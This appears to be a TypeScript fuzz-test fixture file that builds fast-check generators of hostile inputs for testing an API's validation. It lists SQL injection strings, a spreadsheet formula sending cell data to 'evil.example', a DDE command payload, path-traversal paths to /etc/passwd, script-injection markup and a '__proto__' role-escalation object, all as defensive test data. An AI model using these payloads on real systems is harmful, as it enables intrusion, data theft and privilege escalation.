import fc from 'fast-check';
import { deepJson, JsonObject, RawJson } from './json-text';

/** The classics, by what they try. Also used, as valid input, by the injection test. */
export const SQL_INJECTION: readonly string[] = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "'; DROP TABLE users; --",
  "Robert'); DROP TABLE registrations;--",
  '" OR ""="',
  "admin'--",
  "' UNION SELECT password_hash, NULL FROM users --",
  '1; SELECT pg_sleep(5) --',
  "'; SELECT sqlite_version(); --",
  "%' AND 1=0 UNION SELECT name FROM sqlite_master --",
  "\\'; DELETE FROM units; --",
  '%_%',
];

export const FORMULA_INJECTION: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

export const PATH_TRAVERSAL: readonly string[] = [
  '../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  '....//....//etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%c0%af..%c0%afetc/passwd',
  'file:///etc/passwd',
];

export const MARKUP_AND_TEMPLATES: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${7*7}',
  '{{7*7}}',
  '%s%s%s%n',
  '$where',
  '{"$gt":""}',
];

/** Strings that are not text a person typed: NUL, control characters, broken UTF-16. */
export const CONTROL_AND_BROKEN: readonly string[] = [
  '\u0000',
  'a\u0000b',
  '\u0000\u0000\u0000',
  '\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008',
  '\u000b\u000c\u000e\u001b[31m\u001f',
  '\u007f\u0080\u009f',
  '\ud800',
  'a\udfffb',
  '\udc00\ud800',
  '\ufffe\uffff',
];

/** Valid Unicode that trips up code: direction overrides, zero-width, combining marks, wide forms. */
export const UNICODE_ODDITIES: readonly string[] = [
  '\u202egnp.exe',
  '\u200b\u200c\u200d\u2060\ufeff',
  'Z̷̧̛̗̖͎͍̣̜̞̠̳͈̙͓̱̈́̓̾̌̆̒̾̏̑̽̈̕͘͝a̸͖͍̞̖̮̦̮̖̯̓̒͆̆̐́̍̓͊̕͝',
  '\u0301'.repeat(500),
  '１２３４',
  '١٢٣',
  '𝟙𝟚𝟛',
  '👨‍👩‍👧‍👦🏳️‍🌈',
  '\u3000\u3000',
  'İıſK',
  '𠜎𠜱𠝹𠱓',
  'ﷺ',
  '\u00a0',
];

const ALL_NASTY = [
  ...SQL_INJECTION,
  ...FORMULA_INJECTION,
  ...PATH_TRAVERSAL,
  ...MARKUP_AND_TEMPLATES,
  ...CONTROL_AND_BROKEN,
  ...UNICODE_ODDITIES,
];

/** One megabyte (and a bit) of text: a JSON body with it is over the 1 MB body limit. */
export const ONE_MEGABYTE = 1024 * 1024;

/** Any string an attacker might send, short or (rarely) huge. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...ALL_NASTY), weight: 6 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 30 }), weight: 2 },
  {
    arbitrary: fc
      .tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...CONTROL_AND_BROKEN), fc.string())
      .map(([a, b, c]) => a + b + c),
    weight: 2,
  },
  { arbitrary: fc.constantFrom(' ', '', '   ', '\t\n\r'), weight: 1 },
);

/** Long strings: just over a field's limit (counted in characters, as class-validator counts), or far over. */
export const longString = (atLeast: number): fc.Arbitrary<string> =>
  fc
    .tuple(
      fc.constantFrom('Ａ', 'x', '王', '\u0000', "'", '𠜎'),
      // Just over; about the 1 MB body limit (just under it in ASCII, over it in wider UTF-8).
      fc.constantFrom(atLeast + 1, atLeast + 17, ONE_MEGABYTE - 256, ONE_MEGABYTE + 16),
    )
    .map(([c, n]) => c.repeat(n));

/** Numbers as written in JSON text, including those JavaScript cannot hold. */
export const HOSTILE_NUMBERS: readonly RawJson[] = [
  '1e309',
  '-1e309',
  '1e-400',
  '-0',
  '0.1',
  '1.5',
  '1e2',
  '9007199254740993',
  '2147483648',
  '-2147483649',
  '99999999999999999999999',
  '1' + '0'.repeat(400),
  '-1',
  '0',
].map((t) => new RawJson(t));

/** Strings that look like numbers to someone. */
export const NUMBERISH_STRINGS: readonly string[] = [
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '0x1F',
  '1_000',
  ' 1',
  '1 ',
  '１２',
  '١٢',
  '12abc',
  '',
  '1,5',
  'null',
  'true',
];

/** Any JSON value of a type chosen without regard to the field. */
export const anyJsonValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.constantFrom(...HOSTILE_NUMBERS),
  fc.constantFrom(...NUMBERISH_STRINGS),
  fc.constantFrom<unknown>(null, true, false, [], {}, [null], [[]], { '': 1 }),
  fc.integer(),
  fc.double(),
  fc.constant(new JsonObject([['__proto__', { role: 'ORGANIZER' }]])),
);

/** 10,000 levels, as the issue asks (about 20–60 KB of text: under the body limit). */
export const DEEP_LEVELS = 10_000;
export const deepValue: fc.Arbitrary<RawJson> = fc
  .constantFrom<'array' | 'object'>('array', 'object')
  .map((kind) => deepJson(DEEP_LEVELS, kind));

/** Keys no DTO declares. */
export const unknownKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    'isAdmin',
    'role',
    'id',
    'createdAt',
    'constructor',
    'toString',
    'hasOwnProperty',
    'isPrototypeOf',
    'propertyIsEnumerable',
    '__defineGetter__',
    'valueOf',
    '',
    ' ',
    'a.b',
    '$where',
    'name ',
    'x\u0000',
    '__proto__',
  ),
  fc.string({ minLength: 1, maxLength: 12 }),
);
